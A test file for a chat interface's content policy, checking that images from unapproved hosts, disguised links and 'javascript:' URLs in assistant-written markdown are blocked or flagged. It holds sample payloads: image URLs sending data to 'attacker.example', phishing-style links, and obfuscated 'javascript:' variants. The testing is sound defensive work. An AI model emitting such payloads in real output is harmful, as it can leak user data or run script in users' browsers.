import { act, cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ArtifactKind } from '../../protocol/index.js';
import { PlatosProvider } from '../../react/platos-provider.js';
import { expectAccessible } from '../../../test/support/expect-accessible.js';
import { createPlatosHarness } from '../../../test/support/platos-test-harness.js';
import { ArtifactView } from '../artifact/artifact-view.js';
import { MessageText } from '../message/message-text.js';
import { PlatosChat } from '../chat/platos-chat.js';
import { ContentPolicyProvider, type ImagePolicy, type LinkPolicy } from './content-policy.js';
import { preloadLazyParts } from '../../../test/support/preload-lazy-parts.js';

beforeAll(preloadLazyParts);

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const cdnPolicy: ImagePolicy = { allow: ['https://cdn.example.com/img/'] };

function renderMarkdown(text: string, imagePolicy?: ImagePolicy, linkPolicy?: LinkPolicy) {
  return render(
    <ContentPolicyProvider imagePolicy={imagePolicy} linkPolicy={linkPolicy}>
      <MessageText text={text} />
    </ContentPolicyProvider>,
  );
}

describe('markdown under the content policy', () => {
  it('renders no <img> for a hostile image, only a placeholder naming its host', async () => {
    const { container } = renderMarkdown('Here is the chart: ![x](https://attacker.example/leak?d=secret)', cdnPolicy);
    expect(container.querySelector('img')).toBeNull();
    const placeholder = container.querySelector('.platos-image-placeholder');
    expect(placeholder?.getAttribute('data-state')).toBe('blocked');
    expect(placeholder?.getAttribute('data-host')).toBe('attacker.example');
    expect(placeholder?.textContent).toContain('Image from attacker.example not loaded');
    expect(container.innerHTML).not.toContain('d=secret');
    await expectAccessible(container);
  });

  it('loads images from the allowed CDN with no referrer', () => {
    renderMarkdown('![cat](https://cdn.example.com/img/cat.png "A cat")', cdnPolicy);
    const image = screen.getByRole('img', { name: 'cat' });
    expect(image.getAttribute('src')).toBe('https://cdn.example.com/img/cat.png');
    expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('polices reference-style images the same way', () => {
    const text = ['![ok][cdn] and ![leak][evil] and ![again][evil]', '', '[cdn]: https://cdn.example.com/img/a.png', '[evil]: https://attacker.example/p.gif?d=1'].join('\n');
    const { container } = renderMarkdown(text, cdnPolicy);
    expect(screen.getByRole('img', { name: 'ok' }).getAttribute('src')).toBe('https://cdn.example.com/img/a.png');
    expect(container.querySelectorAll('img')).toHaveLength(1);
    expect(container.querySelectorAll('.platos-image-placeholder[data-host="attacker.example"]')).toHaveLength(2);
  });

  it('loads every image of an origin once the user loads one', () => {
    const { container } = renderMarkdown('![one](https://pics.example/1.png)\n\n![two](https://pics.example/2.png)\n\n![three](https://other.example/3.png)');
    fireEvent.click(screen.getAllByRole('button', { name: 'Load image from pics.example' })[0]!);
    expect(screen.getByRole('img', { name: 'one' })).toBeTruthy();
    expect(screen.getByRole('img', { name: 'two' })).toBeTruthy();
    expect(container.querySelectorAll('.platos-image-placeholder')).toHaveLength(1);
  });

  it('shows the real host of disguised links, and none for autolinks', () => {
    const { container } = renderMarkdown('[bank.com](https://evil.example/login) [https://bank.com](https://bank.com.evil.example) https://example.com/auto <https://example.org/x> a@b.example');
    const hosts = [...container.querySelectorAll('.platos-link-host')].map((host) => host.textContent);
    expect(hosts).toEqual(['evil.example', 'bank.com.evil.example']);
    expect(screen.getByRole('link', { name: 'bank.com' }).getAttribute('title')).toBe('https://evil.example/login');
    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://evil.example/login',
      'https://bank.com.evil.example/',
      'https://example.com/auto',
      'https://example.org/x',
      'mailto:a@b.example',
    ]);
  });

  it('renders no <a> for javascript: in any disguise', () => {
    const variants = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', '&#x6a;avascript:alert(1)', 'java&#9;script:alert(1)', 'java&#0;script:alert(1)', '%6Aavascript:alert(1)', '<javascript:alert(2)>'];
    const { container } = renderMarkdown(variants.map((href, index) => `[v${index}](${href})`).join(' ') + ' <javascript:alert(3)>');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('v0');
  });

  it('asks before opening a link when the policy says so', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => null);
    const { container } = renderMarkdown('Read [the guide](https://example.com/guide).', undefined, { confirm: 'external' });
    fireEvent.click(screen.getByRole('link', { name: 'the guide' }));
    const confirm = screen.getByRole('group', { name: /^Open this link\?/ });
    expect(confirm.textContent).toContain('https://example.com/guide');
    await expectAccessible(container);
    fireEvent.click(within(confirm).getByRole('button', { name: 'Open link' }));
    expect(open).toHaveBeenCalledWith('https://example.com/guide', '_blank', 'noopener,noreferrer');
  });
});

describe('artifacts under the content policy', () => {
  function renderArtifact(kind: ArtifactKind, content: string, imagePolicy?: ImagePolicy) {
    const harness = createPlatosHarness();
    const view = render(
      <ContentPolicyProvider imagePolicy={imagePolicy}>
        <ArtifactView id="art-1" />
      </ContentPolicyProvider>,
      { wrapper: harness.Wrapper },
    );
    const turnId = harness.startTurn();
    harness.push(harness.event('artifact-created', turnId, { artifactId: 'art-1', kind, title: 'Result', content, version: 1 }));
    return view.container;
  }

  it('polices images inside markdown artifacts', () => {
    const container = renderArtifact('markdown', '![leak](https://attacker.example/x.png) ![ok](https://cdn.example.com/img/ok.png)', cdnPolicy);
    expect([...container.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual(['https://cdn.example.com/img/ok.png']);
    expect(container.querySelector('.platos-image-placeholder')?.getAttribute('data-host')).toBe('attacker.example');
  });

  it('polices image artifacts', async () => {
    const container = renderArtifact('image', 'https://attacker.example/x.png', cdnPolicy);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('.platos-image-placeholder')?.getAttribute('data-host')).toBe('attacker.example');
    await expectAccessible(container);
    fireEvent.click(screen.getByRole('button', { name: 'Load image from attacker.example' }));
    expect(screen.getByRole('img', { name: 'Result' }).getAttribute('src')).toBe('https://attacker.example/x.png');
  });
});

describe('PlatosChat content policy props', () => {
  it('applies imagePolicy and linkPolicy to the messages', async () => {
    const harness = createPlatosHarness();
    render(
      <PlatosProvider client={harness.client} store={harness.store}>
        <PlatosChat threadId="thread-1" imagePolicy={{ allow: ['https://cdn.example.com/img/'], blocked: 'never' }} linkPolicy={{ confirm: 'external' }} />
      </PlatosProvider>,
    );
    await act(() => new Promise<void>((resolve) => setTimeout(resolve, 0)));
    const turnId = harness.startTurn();
    harness.push(
      harness.event('text-delta', turnId, {
        messageId: 'assistant-1',
        delta: '![ok](https://cdn.example.com/img/a.png) ![leak](https://attacker.example/a.png) [docs](https://docs.example/)',
      }),
    );
    harness.finishTurn(turnId);
    const chat = screen.getByRole('region', { name: 'Assistant' });
    expect(within(chat).getByRole('img', { name: 'ok' })).toBeTruthy();
    expect(within(chat).queryByRole('img', { name: 'leak' })).toBeNull();
    expect(within(chat).queryByRole('button', { name: /^Load image/ })).toBeNull();
    fireEvent.click(within(chat).getByRole('link', { name: 'docs' }));
    expect(within(chat).getByRole('group', { name: /^Open this link\?/ })).toBeTruthy();
    await expectAccessible(chat);
  });
});
